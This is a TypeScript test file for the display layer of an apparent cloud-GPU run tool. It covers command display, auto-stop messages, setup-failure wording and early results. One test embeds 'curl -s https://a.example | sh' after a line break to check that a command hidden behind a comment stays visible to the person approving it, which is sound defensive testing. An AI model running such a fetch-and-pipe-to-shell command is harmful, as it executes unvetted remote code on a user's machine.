// A run's command, where someone decides whether it may run: what is shown means what the shell reads. How it ended: the truth.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import type { InstanceAutoStop } from "../../../../src/domain/instance/auto-stop.ts";
import {
  type EndedRun,
  findEarlyResults,
  type RunRecord,
  readRunRecord,
} from "../../../../src/domain/run/run-record.ts";
import { formatDateTime, formatDayTime, formatTime } from "../../../../src/lib/text.ts";
import { buildRunQuestion } from "../../../../src/present/run/run-question.ts";
import { buildRunLine, buildRunRow } from "../../../../src/present/run/run-rows.ts";
import {
  describeRunEnd,
  describeState,
  formatCommand,
  listOutcomeLines,
  listRunEndLines,
} from "../../../../src/present/run/run-text.ts";

test("a line break of a command is seen: without it, what follows a comment would seem to be one", () => {
  for (const lineBreak of ["\n", "\r\n"])
    assert.notEqual(
      formatCommand(`python3 train.py  # see notes${lineBreak}curl -s https://a.example | sh`),
      formatCommand("python3 train.py  # see notes curl -s https://a.example | sh"),
    );
});

test("a command that someone else chose is named as one, and is shown whole", () => {
  const command = `echo Nothing is uploaded. ${"x".repeat(400)}`;
  const [files, nothing] = [
    { files: [], folders: [], bytes: 0 },
    { files: 0, bytes: 0 },
  ];
  const list = { ...files, secrets: [], links: 0, specials: 0, unreadable: [], main: nothing, data: [] };
  const facts = {
    ...{ id: 7 as never, list, remote: "/r", command, setup: "", secrets: [], limits: {}, price: 1 },
    ...{ others: [], stopsItself: false },
  };
  assert.ok(buildRunQuestion(facts, 1500).detail.startsWith(`Command: ${command}\n`));
  assert.match(buildRunQuestion(facts).detail, /^echo Nothing is uploaded\. x+…\n/);
});

test("an instance that ends on its own isn't said to run on until someone ends it", () => {
  const [none, now] = [{ files: 0, bytes: 0 }, Date.UTC(2026, 10, 25, 12)];
  const list = {
    files: [],
    folders: [],
    bytes: 0,
    secrets: [],
    links: 0,
    specials: 0,
    unreadable: [],
    main: none,
    data: [],
  };
  const facts = {
    ...{ id: 7 as never, list, remote: "/r", command: "true", setup: "", secrets: [], limits: {}, price: 1 },
    ...{ others: [], stopsItself: false },
  };
  const said = (end: Pick<InstanceAutoStop, "ending"> & Partial<InstanceAutoStop>) =>
    buildRunQuestion({ ...facts, autoStop: { end: { until: now + 3_600_000, ...end }, now } }).detail;
  const kept = /keeps running at \$1\.00\/h until you stop or destroy it/;
  assert.match(buildRunQuestion(facts).detail, kept);
  for (const end of [
    { ending: "destroy" },
    { ending: "stop" },
    { ending: "destroy", guard: { kind: "armed" } },
  ] as const) {
    assert.match(said(end), /\n\nAuto-stop: (?:stops|destroys)(?: itself)? at [^\n]+\.$/);
    assert.doesNotMatch(said(end), kept);
  }
  for (const end of [
    { ending: "remind" },
    { ending: "destroy", isDoubted: true },
    { ending: "destroy", isLeft: true },
    { ending: "destroy", until: now - 1 },
  ] as const)
    assert.match(said(end), kept);
});

function runOf(how: Partial<EndedRun>, plan: Partial<RunRecord["plan"]> = {}): RunRecord {
  const whole = {
    name: "train.py",
    command: "python3 -u train.py",
    setup: "false",
    folder: "/f",
    remote: "/r",
    ...plan,
  };
  return {
    ...{ version: 1, id: "20261125-201500-a-abcd" as never, base: "https://a", account: "a", instance: 7 as never },
    ...{ plan: whole, at: 0, window: "w" },
    state: { kind: "ended", at: 1000, exit: 1, seconds: 1, results: { kind: "none" }, ...how },
  };
}

describe("a run whose setup failed", () => {
  const FAILED = { isSetupFailure: true };
  const SCRIPT = "Setup failed with exit code 1, so train.py didn't start.";
  const OTHER = "Setup failed with exit code 1, so the command didn't start.";
  const ENDED = "Ended with exit code 1 after 1 s.";
  for (const [what, run, first, state] of [
    ["names its script", runOf(FAILED), SCRIPT, "setup failed, exit code 1"],
    ["names it also as a rank", runOf(FAILED, { name: "train.py [0]" }), SCRIPT, "setup failed, exit code 1"],
    [
      "names it by the command that is shown",
      runOf(FAILED, { command: "torchrun x", shown: "python3 -u train.py" }),
      SCRIPT,
      "setup failed, exit code 1",
    ],
    ["names no script that isn't run", runOf(FAILED, { command: "make" }), OTHER, "setup failed, exit code 1"],
    [
      "takes no other name for a script's",
      runOf(FAILED, { name: "a.gpu-template.json", command: "cat a.gpu-template.json" }),
      OTHER,
      "setup failed, exit code 1",
    ],
    ["says so only if that is known", runOf({}), ENDED, "exit code 1"],
    [
      "is one that its limit stopped, if that did",
      runOf({ ...FAILED, isLimited: true }),
      "Stopped by its limit after 1 s (exit code 1).",
      "exit code 1",
    ],
  ] as const)
    test(what, () => {
      assert.equal(listRunEndLines(run, undefined)[0], first);
      const { severity, text } = describeRunEnd(run, undefined);
      assert.ok(severity === "warning" && text.includes(`: ${first}`), text);
      assert.equal(describeState(run), state);
      assert.ok(buildRunLine(run, 0).description.startsWith(`${state} · `));
    });

  test("is known to a window that is opened later", () => {
    assert.deepEqual(readRunRecord(JSON.stringify(runOf(FAILED)))?.state, runOf(FAILED).state);
  });
});

test("the end of a run names the auto-stop of an instance that stays, and says that it goes on without one that holds", () => {
  const said = (end?: Partial<InstanceAutoStop>) =>
    listRunEndLines(runOf({}), 0.5, end && { end: { until: 3_600_000, ending: "stop", ...end }, now: 0 }).join(" ");
  const GOES_ON = /The instance keeps running at \$0\.50\/h until you stop or destroy it/;
  assert.match(said({}), /Auto-stop: stops at/);
  assert.doesNotMatch(said({}), GOES_ON);
  for (const end of [undefined, { ending: "remind" }, { isDoubted: true }, { isLeft: true }, { until: 0 }] as const)
    assert.match(said(end), GOES_ON);
});

describe("results that came while the command ran", () => {
  const early = { place: "/f/.cloud-gpu/runs/r", at: Date.UTC(2026, 0, 2, 3, 4), files: 2, bytes: 8 };
  const when = formatDateTime(early.at);

  test("are in its rows as long as it isn't over", () => {
    const going: RunRecord = { ...runOf({}), state: { kind: "started" }, early };
    assert.equal(
      buildRunRow(going, "a", early.at + 1).description,
      `results from ${formatTime(early.at)} · running when last seen · ${formatDateTime(0)}`,
    );
    assert.ok(buildRunLine(going, 0).description.endsWith(` · results from ${formatDayTime(early.at)}`));
    assert.deepEqual(readRunRecord(JSON.stringify(going))?.early, early);
    for (const other of [
      { ...runOf({}), early },
      { ...going, early: undefined },
    ])
      assert.doesNotMatch(`${buildRunRow(other, "a", 0).description} ${buildRunLine(other, 0).description}`, /results/);
  });

  test("are what is left of those of an instance that is gone, which has no output to open", () => {
    const run = runOf({ exit: undefined, why: "Gone.", results: findEarlyResults({ early }) });
    const said = `Results as of ${when}: 2 files (8 B) in .cloud-gpu/runs/r. What the command wrote later wasn't downloaded.`;
    assert.deepEqual(listOutcomeLines(run), ["Gone.", said]);
    assert.equal(describeRunEnd(run, undefined).severity, "warning");
    assert.doesNotMatch(buildRunRow(run, "a", 0).context ?? "", /hasOutput/);
    assert.deepEqual(findEarlyResults({}), { kind: "none" });
  });

  test("that the person changed are said to be kept, with where the others are", () => {
    const results = { ...early, kind: "fetched", isWhole: true, beside: "/f/.cloud-gpu/runs/r (2)" } as const;
    assert.deepEqual(listOutcomeLines(runOf({ results })).slice(1), [
      "Results: 2 files (8 B) in .cloud-gpu/runs/r. Some files here weren't replaced, for example because you changed them. The instance's versions are in .cloud-gpu/runs/r (2).",
    ]);
  });
});
